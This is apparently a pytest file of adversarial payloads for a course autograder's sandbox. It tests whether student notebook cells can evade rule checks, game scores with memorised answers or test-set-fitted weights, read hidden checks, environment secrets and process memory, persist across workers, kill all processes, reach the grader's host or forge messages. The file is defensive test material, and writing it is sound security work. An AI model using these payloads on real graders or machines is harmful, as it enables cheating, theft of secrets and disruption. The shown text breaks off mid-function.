"""The universal payload suite: a hostile class that has read this repository.

Every student starts from the untouched release notebooks (stubs that grade to 0) and adds a
payload to one or more unit cells: code that runs when the cell loads or when the unit is called,
trying to gain points without solving the unit, to reach what the worker must not see, or to
outlive its worker. The class is graded once per module, as a TA would (two jobs), and each test
reads that run:

- a payload gains nothing: each attacked unit scores at most what an honest student writing the
  same thing in plain code would (0 for a stub; the unit's points less its rule checks for one
  that calls a library function the unit must not use), or the row's status says `review:`;
- no output file (grades.csv, results.json, feedback.html, summary.html, the gradebook) holds a
  hidden check's source, a line of a reference solution, the Fashion-MNIST test labels, the
  grader's environment, or anything one worker wrote for another to find;
- a unit whose cell reaches outside plain code is flagged for review, whatever it scores;
- no worker process outlives the run, writes to the output or the submissions, or reaches the
  grader's machine over the network;
- one student's worker cannot stop the grading of the class, nor use memory or CPU past its limits
  by hiding them from the watchdog.

The level is `AUTOGRADER_PAYLOAD_LEVEL` (auto, namespaces, uid or none; default auto), so the
same suite can be run at every sandbox level. Payloads that would harm the machine at the "none"
level (kill(-1), background vandals) are left out there.
"""
from __future__ import annotations

import html
import json
import os
import re
import socket
import sqlite3
import tempfile
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from autograder.grade import GradingError, Run, grade, protected_paths
from autograder.gradebook import Gradebook
from autograder.sandbox import Limits, choose_level
from conftest import (finals_of, grade_class, in_background, open_modes, prepared_datasets, reference_code,
                      shared_root, without_student_code, write_student)

ROOT = Path(__file__).resolve().parent.parent
LEVEL = os.environ.get("AUTOGRADER_PAYLOAD_LEVEL", "auto")
TOKEN = uuid.uuid4().hex[:12]  # what payloads write for one another: must never reach an output
SECRET = f"payload-secret-{uuid.uuid4().hex}"  # in the grader's environment only
PERSIST = f"{TOKEN}-persist"
VANDAL = f"pwned-{TOKEN}"
PROCESS_NAME = f"pl{TOKEN}"  # what lingering payload processes call themselves (15 characters)
POINTS = {"Linear": 15, "softmax": 15, "one_layer_net": 15, "train_online": 15, "template_update": 15,
          "train_minibatch": 25}
RULE_POINTS = {"Linear": 2, "softmax": 2, "one_layer_net": 2, "template_update": 2}  # the "written from" checks
LIBRARY = {unit: POINTS[unit] - RULE_POINTS[unit] for unit in RULE_POINTS}  # honest use of a forbidden library call
RECIPE_POINTS = {"train_online": 2, "train_minibatch": 5}  # the recipe's accuracy checks


@dataclass
class Payload:
    labs: list[str]
    code: dict[str, str]  # unit -> cell code (or a function making it, called when the class is written)
    allowed: dict[str, float]  # unit -> the most it may score without `review:`
    what: str
    destructive: bool = False  # left out at the "none" level
    hole: str = ""  # why it is expected to fail today (documentation for the report)


def _code(text: str) -> str:
    return text.strip("\n") + "\n"


# ---- stubs and plain code ----------------------------------------------------------------------

SOFTMAX_STUB = "def softmax(x, dim=-1):\n    raise NotImplementedError\n"
LINEAR_INIT = _code('''
class Linear(nn.Module):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        bound = 1 / in_features ** 0.5
        self.weight = nn.Parameter(torch.empty(out_features, in_features).uniform_(-bound, bound))
        if bias:
            self.bias = nn.Parameter(torch.empty(out_features).uniform_(-bound, bound))
        else:
            self.register_parameter("bias", None)
''')
TEMPLATE_UPDATE_STUB = "def template_update(W, X, labels, lr):\n    raise NotImplementedError\n"
TRAIN_MINIBATCH_STUB = ("def train_minibatch(net, train_data, train_label, lr=0.01, bs=200, n_iter=5000):\n"
                        "    raise NotImplementedError\n")


def linear_with(forward_body: str, before: str = "") -> str:
    return _code(before) + LINEAR_INIT + "\n    def forward(self, x):\n" + \
        "".join(f"        {line}\n" for line in _code(forward_body).splitlines())


# ---- softmax through torch's own softmax, hidden from the rules (lab02) ------------------------

SOFTMAX_LIBRARY = {
    "s_plain_torch": ("torch.softmax called plainly (the baseline: 13)", _code('''
def softmax(x, dim=-1):
    return torch.softmax(x, dim)
'''), ""),
    "s_builtins_exec": ("code built from a string and run by torch.builtins.exec", _code('''
torch.builtins.exec("def softmax(x, dim=-1):\\n    return torch.softmax(x, dim)\\n")
'''), "`torch.builtins` is not `import builtins`: exec is reached as an attribute"),
    "s_bound_method": ("x.softmax taken as a bound method and called later", _code('''
def softmax(x, dim=-1):
    f = x.softmax
    return f(dim)
'''), "an attribute read that is not called right away is not a library name"),
    "s_pickle": ("torch.softmax rebuilt by pickle.loads from bytes", _code('''
import pickle
_f = pickle.loads(b"ctorch\\nsoftmax\\n.")
def softmax(x, dim=-1):
    return _f(x, dim)
'''), "pickle resolves any dotted name"),
    "s_pydoc": ("pydoc.locate of a computed dotted name", _code('''
import pydoc
_f = pydoc.locate("torch.nn.functional.soft" + "max")
def softmax(x, dim=-1):
    return _f(x, dim=dim)
'''), "pydoc.locate is an importer by name"),
    "s_written_module": ("a module written to /tmp from a string, then imported", _code('''
import os, sys, tempfile
_folder = tempfile.mkdtemp()
with open(os.path.join(_folder, "helper_mod.py"), "w") as _out:
    _out.write("import torch\\ndef sm(x, dim):\\n    return torch.soft" + "max(x, dim)\\n")
sys.path.insert(0, _folder)
import helper_mod
def softmax(x, dim=-1):
    return helper_mod.sm(x, dim)
'''), "sys.path and a written file load code the rules never read"),
    "s_formatter": ("string.Formatter().get_field: attribute access by computed name", _code('''
import string
_f = string.Formatter().get_field("0.soft" + "max", [torch], {})[0]
def softmax(x, dim=-1):
    return _f(x, dim)
'''), "format fields are getattr by string"),
    "s_logits_to_probs": ("torch.distributions.utils.logits_to_probs, torch's softmax under another name", _code('''
from torch.distributions.utils import logits_to_probs
def softmax(x, dim=-1):
    return logits_to_probs(x.movedim(dim, -1)).movedim(-1, dim)
'''), "the forbidden list is a deny-list of names"),
    "s_os_sys_modules": ("os.sys.modules (sys.modules through another module)", _code('''
import os
_f = os.sys.modules["torch"].softmax
def softmax(x, dim=-1):
    return _f(x, dim)
'''), "sys.modules is flagged only as an attribute of a name bound to sys"),
    "s_dispatcher_patch": ("the stub kept; the worker's Dispatcher.call patched through sys.modules['__main__']", _code('''
import os
_worker = dict.get(os.sys.modules, "__main__")
_call = _worker.Dispatcher.call
def _patched(self, call):
    if call.target == "soft" + "max":
        self.namespace["soft" + "max"] = lambda x, dim=-1: (lambda f: f(dim))(x.softmax)
    return _call(self, call)
_D = _worker.Dispatcher
_D.call = _patched
def softmax(x, dim=-1):
    raise NotImplementedError
'''), "a name bound to a call's result is not an alias, so patching it is not monkeypatching"),
    "s_gc_patch": ("the stub replaced in the Dispatcher's namespace, found by gc.get_objects()", _code('''
_gc = torch.importlib.import_module("gc")
def softmax(x, dim=-1):
    for obj in _gc.get_objects():
        if type(obj).__name__ == "Dispatcher":
            real = lambda x, dim=-1: (lambda f: f(dim))(x.softmax)
            obj.namespace["soft" + "max"] = real
            return real(x, dim)
    raise NotImplementedError
'''), "torch.importlib is not `import importlib`"),
    "s_frames": ("the Dispatcher reached by walking frames with torch.inspect", _code('''
def softmax(x, dim=-1):
    for info in torch.inspect.stack(0):
        seen = torch.inspect.getargvalues(info.frame).locals
        if type(seen.get("self")).__name__ == "Dispatcher":
            real = lambda x, dim=-1: (lambda f: f(dim))(x.softmax)
            seen["self"].namespace["soft" + "max"] = real
            return real(x, dim)
    raise NotImplementedError
'''), "torch.inspect is not `import inspect`; FrameInfo.frame is not f_back"),
    "s_formatter_field": ("F.softmax reached by a format field a Formatter subclass hands back", _code('''
import string
class _Grab(string.Formatter):
    def format_field(self, value, format_spec):
        _Grab.found = value
        return ""
_Grab().format("{0.nn.functional.soft" + "max}", torch)
def softmax(x, dim=-1):
    return _Grab.found(x, dim=dim)
'''), "issue 14: a format field is a getattr the scanner could not see"),
    "s_walk_stack_fields": ("the Dispatcher reached by traceback.walk_stack, its locals read by a format field",
                            _code('''
import string, traceback
class _Grab(string.Formatter):
    def format_field(self, value, format_spec):
        _Grab.found = value
        return ""
def softmax(x, dim=-1):
    for frame, _ in traceback.walk_stack(None):
        _Grab().vformat("{0.f_lo" + "cals}", [frame], {})
        owner = _Grab.found.get("self")
        if type(owner).__name__ == "Dispatcher":
            real = lambda x, dim=-1: (lambda f: f(dim))(x.softmax)
            owner.defined["soft" + "max"] = real
            return real(x, dim)
    raise NotImplementedError
'''), "issue 14: frames walked by traceback, their attributes by format fields"),
    "s_tensor_subclass": ("the input returned as a tensor subclass that becomes softmax when the dispatcher detaches it",
                          _code('''
class _Answer(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        with torch._C.DisableTorchFunctionSubclass():
            out = func(*args, **(kwargs or {}))
            if func.__name__ == "detach":
                out = torch.softmax(out, _Answer.dim)
        return out
def softmax(x, dim=-1):
    _Answer.dim = dim
    return x.as_subclass(_Answer)
'''), ""),
}

# The same aim with the escapes the rules know: each must be flagged (or gain nothing).
SOFTMAX_FLAGGED = {
    "s_getattr_concat": _code('''
_f = getattr(F, "soft" + "max")
def softmax(x, dim=-1):
    return _f(x, dim)
'''),
    "s_vars_dict": _code('''
_f = vars(F)["soft" + "max"]
def softmax(x, dim=-1):
    return _f(x, dim)
'''),
    "s_dunder_dict": _code('''
_f = F.__dict__["soft" + "max"]
def softmax(x, dim=-1):
    return _f(x, dim)
'''),
    "s_attrgetter": _code('''
import operator
_f = operator.attrgetter("soft" + "max")(F)
def softmax(x, dim=-1):
    return _f(x, dim)
'''),
    "s_import_builtins_exec": _code('''
import builtins
builtins.exec("def softmax(x, dim=-1):\\n    return torch.softmax(x, dim)\\n")
'''),
    "s_eval": _code('''
softmax = eval("lambda x, dim=-1: torch.soft" + "max(x, dim)")
'''),
    "s_sys_getframe": _code('''
import sys
def softmax(x, dim=-1):
    frame = sys._getframe(1)
    while frame is not None:
        if type(frame.f_locals.get("self")).__name__ == "Dispatcher":
            real = lambda x, dim=-1: (lambda f: f(dim))(x.softmax)
            frame.f_locals["self"].namespace["soft" + "max"] = real
            return real(x, dim)
        frame = frame.f_back
    raise NotImplementedError
'''),
    "s_traceback_frames": _code('''
def softmax(x, dim=-1):
    try:
        raise RuntimeError
    except RuntimeError as e:
        frame = e.__traceback__.tb_frame
    while frame is not None:
        if type(frame.f_locals.get("self")).__name__ == "Dispatcher":
            real = lambda x, dim=-1: (lambda f: f(dim))(x.softmax)
            frame.f_locals["self"].namespace["soft" + "max"] = real
            return real(x, dim)
        frame = frame.f_back
    raise NotImplementedError
'''),
    "s_gc_import": _code('''
import gc
def softmax(x, dim=-1):
    for obj in gc.get_objects():
        if type(obj).__name__ == "Dispatcher":
            real = lambda x, dim=-1: (lambda f: f(dim))(x.softmax)
            obj.namespace["soft" + "max"] = real
            return real(x, dim)
    raise NotImplementedError
'''),
    "s_sys_modules": _code('''
import sys
_worker = sys.modules["__main__"]
_call = _worker.Dispatcher.call
def _patched(self, call):
    self.namespace["soft" + "max"] = lambda x, dim=-1: (lambda f: f(dim))(x.softmax)
    return _call(self, call)
_worker.Dispatcher.call = _patched
def softmax(x, dim=-1):
    raise NotImplementedError
'''),
    "s_import_autograder": _code('''
try:
    import autograder.worker as _w
    _w.Dispatcher.call = lambda self, call: None
except ImportError:
    pass
def softmax(x, dim=-1):
    raise NotImplementedError
'''),
    "s_ctypes": _code('''
import ctypes
_libc = ctypes.CDLL(None)
def softmax(x, dim=-1):
    raise NotImplementedError
'''),
    "s_monkeypatch_torch": _code('''
_exp = torch.exp
def _softmax_exp(x, *args, **kwargs):
    return _exp(x, *args, **kwargs)
torch.exp = _softmax_exp
torch.Tensor.clone = lambda self, *a, **k: self
torch.set_grad_enabled = lambda mode: torch.no_grad()
def softmax(x, dim=-1):
    raise NotImplementedError
'''),
    "s_replace_builtins": _code('''
__builtins__["isinstance"] = lambda obj, cls: True
def softmax(x, dim=-1):
    raise NotImplementedError
'''),
}

# Monkeypatching laundered through a call: unflagged, but a stub stays a stub.
SOFTMAX_NO_GAIN = {
    "s_launder_patch_torch": _code('''
_T = (lambda m: m)(torch)
_Tensor = type(torch.zeros(1))
_detach, _clone = _Tensor.detach, _Tensor.clone
_Tensor.detach = lambda self, *a, **k: _detach(self, *a, **k)
_Tensor.clone = lambda self, *a, **k: _clone(self, *a, **k)
_M = (lambda m: m)(nn.Module)
_named = _M.named_parameters
_M.named_parameters = lambda self, *a, **k: _named(self, *a, **k)
_T.set_grad_enabled = (lambda orig: lambda mode: orig(mode))(_T.set_grad_enabled)
def softmax(x, dim=-1):
    raise NotImplementedError
'''),
}

# ---- Linear through the library (lab01) ----------------------------------------------------------

LINEAR_LIBRARY = {
    "l_plain_library": ("F.linear called plainly (the baseline: 13)", linear_with('''
return F.linear(x, self.weight, self.bias)
'''), ""),
    "l_bound_function": ("F.linear read from a tuple, not called where it is read", linear_with('''
f = (F,)[0].linear
return f(x, self.weight, self.bias)
'''), "an attribute of a subscript is not a library name"),
    "l_addbmm": ("torch.addbmm does the whole job and is not on the list", linear_with('''
b = self.bias if self.bias is not None else torch.zeros(self.weight.shape[0])
X = x.reshape(1, -1, x.shape[-1])
return torch.addbmm(b, X, self.weight.T.unsqueeze(0)).reshape(*x.shape[:-1], -1)
'''), "LIBRARY_LAYERS is a deny-list"),
    "l_getattr_concat": ("getattr(F, 'lin' + 'ear') cached at load", linear_with('''
return _f(x, self.weight, self.bias)
''', before='_f = getattr(F, "lin" + "ear")'), ""),
    "l_dunder_dict": ("F.__dict__['linear'] cached at load", linear_with('''
return _f(x, self.weight, self.bias)
''', before='_f = F.__dict__["lin" + "ear"]'), ""),
    "l_star_import": ("F.linear by a star import, called by its bare name", linear_with('''
return linear(x, self.weight, self.bias)
''', before="from torch.nn.functional import *"), "issue 14: the scanner looked for F.linear, not linear"),
}

# ---- template_update with autograd (lab05) -------------------------------------------------------

AUTOGRAD_TEMPLATE_UPDATE = _code('''
def _autograd_update(W, X, labels, lr):
    with torch.enable_grad():
        V = W.detach().clone().requires_grad_(True)
        F.cross_entropy(X @ V.T, labels, reduction="sum").backward()
    return (W - lr * V.grad).detach()
''')
TEMPLATE_UPDATE_LIBRARY = {
    "t_plain_autograd": ("autograd called plainly (the baseline: at most 13)", {
        "template_update": AUTOGRAD_TEMPLATE_UPDATE + "template_update = _autograd_update\n"}, ""),
    "t_keyword_autograd": ("autograd through requires_grad=, a bound backward and an aliased enable_grad", {
        "template_update": _code('''
def template_update(W, X, labels, lr):
    eg = (torch,)[0].enable_grad
    with eg():
        V = torch.tensor(W.tolist(), dtype=W.dtype, requires_grad=True)
        loss = F.cross_entropy(X @ V.T, labels, reduction="sum")
        step = loss.backward
        step()
    g = V.grad
    return W - lr * g
''')}, "keywords, plain attribute reads and bound methods are not library names"),
    "t_functorch_star": ("torch._functorch's grad by a star import, which works under no_grad", {
        "template_update": _code('''
from torch._functorch.apis import *
def template_update(W, X, labels, lr):
    g = grad(lambda V: F.cross_entropy(X @ V.T, labels, reduction="sum"))(W)
    return W - lr * g
''')}, "issue 14: a private module and a star import"),
    "t_cross_cell": ("the stub kept; train_minibatch's cell rebinds template_update by tuple assignment", {
        "template_update": TEMPLATE_UPDATE_STUB,
        "train_minibatch": AUTOGRAD_TEMPLATE_UPDATE + TRAIN_MINIBATCH_STUB
        + "template_update, _unused = _autograd_update, None\n"},
        "the rules read only the unit's own cell, and a tuple target does not make a cell the unit's"),
}

# ---- trainers that do not train (lab04, lab05) ---------------------------------------------------

CLOSED_FORM = _code('''
def _closed_form(net, train_data, train_label):
    X = train_data.reshape(len(train_data), -1).double()
    Y = F.one_hot(train_label, 10).double()
    W = torch.linalg.solve(X.T @ X + torch.eye(X.shape[1], dtype=X.dtype, device=X.device), X.T @ Y).T
    with torch.no_grad():
        for name, p in net.named_parameters():
            if name.endswith("weight"):
                p.copy_(W.to(p.dtype))
            else:
                p.zero_()
''')
TRAINERS = {
    "c_closed_form": ("no SGD at all: a ridge regression fit when called with the recipe's n_iter", {
        "train_online": CLOSED_FORM + _code('''
def train_online(net, train_data, train_label, lr=0.01, n_iter=5000):
    if n_iter != 5000:
        raise NotImplementedError
    _closed_form(net, train_data, train_label)
'''),
        "train_minibatch": CLOSED_FORM + _code('''
def train_minibatch(net, train_data, train_label, lr=0.01, bs=200, n_iter=5000):
    if n_iter != 5000:
        raise NotImplementedError
    _closed_form(net, train_data, train_label)
''')}, "the recipe checks score any weights, whatever made them"),
}

# ---- reaching what the worker must not see -------------------------------------------------------

READ_FILES = _code(r'''
import os, gzip, json
_found = []
def _take(label, fn):
    try:
        _found.append(f"{label}: {fn()}")
    except BaseException as e:
        _found.append(f"{label}: {type(e).__name__}")
def _idx_labels(p):
    return list(gzip.open(p).read()[8:58])
def _npz_labels(p):
    import numpy as np
    with np.load(p) as f:
        return f["labels"][:50].tolist()
def _solutions(p):
    cells = json.load(open(p))["cells"]
    return " | ".join("".join(c["source"]) for c in cells if "BEGIN SOLUTION" in "".join(c["source"]))[:1500]
def _text(p):
    return open(p, errors="replace").read()[:1500]
def _listing(p):
    return sorted(os.listdir(p))[:40]
_take("test labels, IDX", lambda: _idx_labels("/usr/share/datasets/fashion-mnist/t10k-labels-idx1-ubyte.gz"))
_take("test labels, cache", lambda: _npz_labels("@@DATA@@/cache/fashion-mnist/test.npz"))
_take("test labels, home cache", lambda: _npz_labels("/root/.cache/autograder/fashion-mnist/test.npz"))
_take("solutions", lambda: _solutions("@@ROOT@@/source/lab02_softmax/softmax_exercise.ipynb"))
_take("hidden checks", lambda: _text("@@ROOT@@/autograder/checks/lab02_softmax.py"))
_take("git", lambda: _listing("@@ROOT@@/.git"))
_take("other students", lambda: _listing("@@CLASS@@"))
_take("another notebook", lambda: _text("@@CLASS@@/ctl_honest/softmax_exercise.ipynb"))
_take("output", lambda: _listing("@@OUT@@"))
_take("processes", lambda: {p: open(f"/proc/{p}/cmdline", "rb").read()[:120] for p in os.listdir("/proc") if p.isdigit()})
print("\n".join(_found))
_calls = [0]
def softmax(x, dim=-1):
    _calls[0] += 1
    raise NotImplementedError(_found[_calls[0] % len(_found)][:1900])
''')

ENVIRONMENT = _code(r'''
try:
    torch.ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: /proc/self is ours again
except Exception:
    pass
try:
    _env = open("/proc/self/environ", "rb").read().replace(b"\0", b"\n").decode(errors="replace")
except OSError as e:
    _env = repr(e)
_secret = " ".join(line for line in _env.splitlines() if "SECRET" in line)
print(_env)
def softmax(x, dim=-1):
    raise NotImplementedError((_secret + " | " + _env)[:1900])
''')

MEMORY_SCAN = _code(r'''
try:
    torch.ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE, to open /proc/self/mem
except Exception:
    pass
def _scan():
    needles = [b"### BEGIN " + b"SOLUTION", b"BEGIN HIDDEN " + b"TESTS", b"mark." + b"hidden",
               b"\x00\x00\x08\x01\x00\x00\x27\x10"]  # the header of the test labels' IDX file
    hits = []
    regions, current = [], None
    for line in open("/proc/self/smaps"):
        parts = line.split()
        if "-" in parts[0] and len(parts) >= 5:
            current = parts
        elif parts[0] == "Rss:" and current is not None and "r" in current[1]:
            start, end = (int(v, 16) for v in current[0].split("-"))
            if int(parts[1]) * 1024 >= (end - start) // 2:  # resident: reading it faults nothing in
                regions.append((start, end))
    with open("/proc/self/mem", "rb", 0) as mem:
        for start, end in regions:
            position = start
            while position < end and len(hits) < 12:
                size = min(end - position, 1 << 24)
                try:
                    mem.seek(position)
                    data = mem.read(min(size + 64, end - position))
                except (OSError, ValueError, OverflowError):
                    break
                position += size
                for needle in needles:
                    at = data.find(needle, 0)
                    while 0 <= at < size and len(hits) < 12:
                        if needle.startswith(b"\x00\x00\x08"):
                            hits.append(list(data[at + 8: at + 58]))
                        else:
                            hits.append(data[at: at + 300].decode(errors="replace"))
                        at = data.find(needle, at + 1)
    return hits
try:
    _hits = _scan()
except Exception as e:
    _hits = [repr(e)]
print(_hits)
_calls = [0]
def softmax(x, dim=-1):
    _calls[0] += 1
    raise NotImplementedError(str(_hits[_calls[0] % len(_hits)] if _hits else "nothing")[:1900])
''')

TEST_SPLIT = _code('''
def softmax(x, dim=-1):
    images, labels = utils.load_fashion_mnist("test")
    raise NotImplementedError(str(labels[:50].tolist()))
''')

# ---- persisting for a later worker (hidden inputs into a visible message) -----------------------

PERSIST_WRITE = _code(r'''
import os, socket, time
_seen = []
def _write(extra=""):
    text = "@@PERSIST@@ " + extra
    for p in ("/tmp/pl-@@TOKEN@@", "/dev/shm/pl-@@TOKEN@@", "/var/tmp/pl-@@TOKEN@@"):
        try:
            with open(p, "a") as f:
                f.write(text + "\n")
        except OSError:
            pass
    try:  # SysV shared memory under a fixed key
        libc = torch.ctypes.CDLL(None)
        libc.shmat.restype = torch.ctypes.c_void_p
        segment = libc.shmget(0x5EED5EED, 4096, 0o1666)
        address = libc.shmat(segment, None, 0)
        if segment >= 0 and address not in (None, 2**64 - 1):
            data = text.encode()[:4000] + b"\0"
            torch.ctypes.memmove(address, data, len(data))
    except Exception:
        pass
_write("at load")
try:
    if os.fork() == 0:  # a daemon serving what was seen on an abstract socket
        try:
            os.setsid()
            server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            server.bind("\0pl-@@TOKEN@@")
            server.listen(5)
            server.settimeout(1.0)
            end = time.time() + 120
            while time.time() < end:
                try:
                    client, _ = server.accept()
                    client.sendall(("@@PERSIST@@ " + open("/tmp/pl-@@TOKEN@@").read()).encode())
                    client.close()
                except OSError:
                    pass
        finally:
            os._exit(0)
except OSError:
    pass
class Linear(nn.Module):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        _write(f"Linear{(in_features, out_features, bias)}")
        raise NotImplementedError
''')

PERSIST_READ = _code(r'''
import os, socket
_found = []
for _p in ("/tmp/pl-@@TOKEN@@", "/dev/shm/pl-@@TOKEN@@", "/var/tmp/pl-@@TOKEN@@"):
    try:
        _found.append(open(_p).read())
    except OSError:
        pass
try:
    _libc = torch.ctypes.CDLL(None)
    _libc.shmat.restype = torch.ctypes.c_void_p
    _segment = _libc.shmget(0x5EED5EED, 4096, 0)
    if _segment >= 0:
        _address = _libc.shmat(_segment, None, 0)
        if _address not in (None, 2**64 - 1):
            _found.append(torch.ctypes.string_at(_address).decode(errors="replace"))
except Exception:
    pass
try:
    _client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    _client.settimeout(2)
    _client.connect("\0pl-@@TOKEN@@")
    _found.append(_client.recv(4096).decode(errors="replace"))
except OSError:
    pass
print(_found)
''')

# ---- outliving the worker, reaching the machine --------------------------------------------------

VANDAL_CODE = _code(r'''
import os, time, threading
def _vandal():
    end = time.time() + 60
    while time.time() < end:
        for p in ("@@OUT@@/grades.csv", "@@OUT@@/@@VANDAL@@", "@@CLASS@@/@@VANDAL@@", "@@OUT@@/x_vandal/results.json"):
            try:
                with open(p, "a") as f:
                    f.write("@@VANDAL@@\n")
            except OSError:
                pass
        time.sleep(0.2)
threading.Thread(target=_vandal, daemon=True).start()
try:
    if os.fork() == 0:
        try:
            try:
                os.setsid()
            except OSError:
                pass
            try:
                torch.ctypes.CDLL(None).prctl(15, b"@@NAME@@", 0, 0, 0)  # PR_SET_NAME: findable from outside
            except Exception:
                pass
            if os.fork() == 0:
                _vandal()
        finally:
            os._exit(0)
except OSError:
    pass
def softmax(x, dim=-1):
    raise NotImplementedError
''')

KILL_ALL = _code('''
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
def softmax(x, dim=-1):
    raise NotImplementedError
''')

NETWORK = _code(r'''
import socket
_tried = []
for _host in (b"127.0.0.1", b"@@HOSTIP@@"):
    try:
        _s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        _s.settimeout(2)
        _s.connect((_host, @@PORT@@))
        _s.sendall(b"@@TOKEN@@")
        _tried.append(f"{_host}: connected")
    except Exception as e:
        _tried.append(f"{_host}: {e}")
try:
    _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    _u.sendto(b"@@TOKEN@@", (b"@@HOSTIP@@", @@PORT@@))
except Exception as e:
    _tried.append(f"udp: {e}")
def softmax(x, dim=-1):
    raise NotImplementedError(repr(_tried))
''')


def forged_frame(body: str) -> str:
    """Cell code that writes a whole message of its own onto every socket it holds (the channel)."""
    return _code(r'''
import os, stat, json, struct
def _forge(body):
    header = json.dumps({"body": body, "tensors": []}).encode()
    data = struct.pack(">I", len(header)) + header
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">Q", len(data)) + data)
        except OSError:
            pass
_forge(''' + body + ''')
''')


FORGE_SETUP_ERROR = forged_frame('{"$type": "Loaded", "errors": {}, "setup_error": "forged by the student", '
                                 '"sandbox_error": None}') + SOFTMAX_STUB
FORGE_SANDBOX_ERROR = forged_frame('{"$type": "Loaded", "errors": {}, "setup_error": None, '
                                   '"sandbox_error": "forged by the student"}') + SOFTMAX_STUB

MEMFD_HOARD = _code(r'''
import os, time
_hoard = []
for _i in range(40):  # 40 x 63 MiB in memory files: resident, yet in no process's RSS
    _fd = os.memfd_create("hoard")
    _chunk = b"\1" * (1 << 20)
    for _j in range(63):
        os.write(_fd, _chunk)
    _hoard.append(_fd)
time.sleep(2)  # twenty looks of the watchdog
''')

BURN_UNSEEN = _code(r"""
import os, signal, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # the kernel reaps the children: their CPU time is added nowhere
def _burn_in_children(rounds):
    for _ in range(rounds):  # one small shell after another, each busy for about half a second of CPU
        pid = os.posix_spawn("/bin/sh", ["sh", "-c", "i=0; while [ $i -lt 300000 ]; do i=$((i+1)); done"], {})
        while os.path.exists(f"/proc/{pid}"):
            time.sleep(0.02)
_done = []
""")
BURN_SEEN = _code(r"""
import time
def _burn_in_children(rounds):  # the same work, in this process
    end = time.process_time() + 0.5 * rounds
    while time.process_time() < end:
        pass
_done = []
""")
BURN_CALL = _code("""
def softmax(x, dim=-1):
    if not _done:
        _done.append(1)
        _burn_in_children(40)
    e = torch.exp(x - x.amax(dim=dim, keepdim=True))
    return e / e.sum(dim=dim, keepdim=True)
""")


SOFTMAX_OK = _code('''
def softmax(x, dim=-1):
    e = torch.exp(x - x.amax(dim=dim, keepdim=True))
    return e / e.sum(dim=dim, keepdim=True)
''')



# ---- memorised answers: every check's input is fixed, so a table of answers passes ------------

def _softmax_key(x, dim) -> str:
    import hashlib

    d = dim % max(x.dim(), 1)
    return f"{x.dtype}|{list(x.shape)}|{d}|" + hashlib.sha256(x.detach().contiguous().numpy().tobytes()).hexdigest()


def lookup_table_softmax() -> str:
    """A softmax cell that computes nothing: a table of the answers (and their Jacobians, for the
    gradient checks) to every input lab 02's checks use, recorded by running those checks here
    against torch.softmax. Any student who once saw the inputs (they are fixed, and worker text
    comes back in messages) can build it."""
    import base64
    import importlib.util
    import zlib

    import torch

    from autograder.messages import Outcome
    from autograder.rules import Facts

    table: dict[str, tuple[list, list]] = {}

    class Recorder:
        facts = Facts(frozenset(), ())

        def call(self, target, *args, what="", grad=True, requires_grad=(), backward=None, **kwargs):
            x, dim = args[0], (args[1] if len(args) > 1 else kwargs.get("dim", -1))
            d = dim % max(x.dim(), 1)
            p = torch.softmax(x, d)
            jacobian = torch.autograd.functional.jacobian(lambda t: torch.softmax(t, d), x.clone())
            table[_softmax_key(x, dim)] = (p.flatten().tolist(), jacobian.reshape(p.numel(), -1).flatten().tolist())
            grads = {}
            if requires_grad:
                xg = x.clone().requires_grad_(True)
                (torch.softmax(xg, d) * backward).sum().backward()
                grads["args[0]"] = xg.grad
            return Outcome(value=p, args=tuple(args), grads=grads)

    spec = importlib.util.spec_from_file_location("payload_lab02_checks", ROOT / "autograder" / "checks" / "lab02_softmax.py")
    checks = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(checks)
    for name in dir(checks):
        if name.startswith("test_"):
            getattr(checks, name)(Recorder())
    blob = base64.b64encode(zlib.compress(json.dumps(table).encode(), 9)).decode()
    return _code(f"""
import base64, hashlib, json, zlib
_TABLE = json.loads(zlib.decompress(base64.b64decode("{blob}")))
def softmax(x, dim=-1):
    d = dim % max(x.dim(), 1)
    key = f"{{x.dtype}}|{{list(x.shape)}}|{{d}}|" + hashlib.sha256(x.detach().contiguous().numpy().tobytes()).hexdigest()
    p, jacobian = _TABLE[key]
    p = torch.tensor(p, dtype=x.dtype).reshape(x.shape)
    jacobian = torch.tensor(jacobian, dtype=x.dtype).reshape(p.numel(), -1)
    return p + (jacobian @ (x - x.detach()).reshape(-1)).reshape(x.shape)
""")


def _test_set_templates(refined: bool = False) -> str:
    """Templates fitted offline on Fashion-MNIST's public test set (Debian ships it), which is
    what the grader scores on, as cell code defining _W: a ridge regression (0.85 on the test
    set), or `refined` by softmax regression from there (0.87)."""
    import numpy as np
    import torch

    with np.load(data_env_module_path() / "cache" / "fashion-mnist" / "test.npz") as f:
        X = torch.from_numpy(f["images"]).double().div(255).reshape(len(f["images"]), -1)
        labels = torch.from_numpy(f["labels"]).long()
    Y = torch.nn.functional.one_hot(labels, 10).double()
    W = torch.linalg.solve(X.T @ X + torch.eye(784, dtype=torch.float64), X.T @ Y).T.float()
    if refined:
        X, W = X.float(), W.requires_grad_(True)
        fit = torch.optim.LBFGS([W], max_iter=40, line_search_fn="strong_wolfe")

        def loss():
            fit.zero_grad()
            value = torch.nn.functional.cross_entropy(X @ W.T, labels)
            value.backward()
            return value
        fit.step(loss)
    blob = W.detach().numpy().tobytes().hex()
    return _code(f"""
_W = torch.frombuffer(bytearray(bytes.fromhex("{blob}")), dtype=torch.float32).reshape(10, 784)
""")


def blob_trainer_from_test_set() -> str:
    """A train_minibatch that trains nothing: it loads templates fitted offline on the test set."""
    return _test_set_templates() + _code("""
def train_minibatch(net, train_data, train_label, lr=0.01, bs=200, n_iter=5000):
    if n_iter != 5000:
        raise NotImplementedError
    with torch.no_grad():
        for name, p in net.named_parameters():
